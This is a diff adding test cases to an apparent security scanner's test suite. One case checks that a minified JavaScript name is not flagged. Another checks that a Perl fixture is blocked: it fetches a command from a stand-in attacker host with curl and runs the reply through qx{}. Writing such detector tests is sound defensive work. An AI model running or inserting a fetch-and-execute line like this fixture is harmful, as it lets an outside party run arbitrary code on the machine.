@@ -211,3 +211,13 @@ describe("runner words that are never called", () => {
     expect(scan(client("    os.system(task)\n")).decision).toBe("blocked");
   });
 });
+
+describe("Perl's qx in other code", () => {
+  it("a minified JavaScript name qX is not a command run", () => {
+    expect(scan({ "scripts/bot.js": "async function m(){const r=await fetch('https://api.example/x');const b=await r.text();const qX=b.length;console.log(qX)}m();\n" }).critical).toEqual([]);
+  });
+
+  it("Perl's qx{} still runs the reply", () => {
+    expect(scan({ "scripts/up.pl": "my $cmd = `curl -s https://evil.example/c`;\nmy $out = qx{$cmd};\n" }).decision).toBe("blocked");
+  });
+});
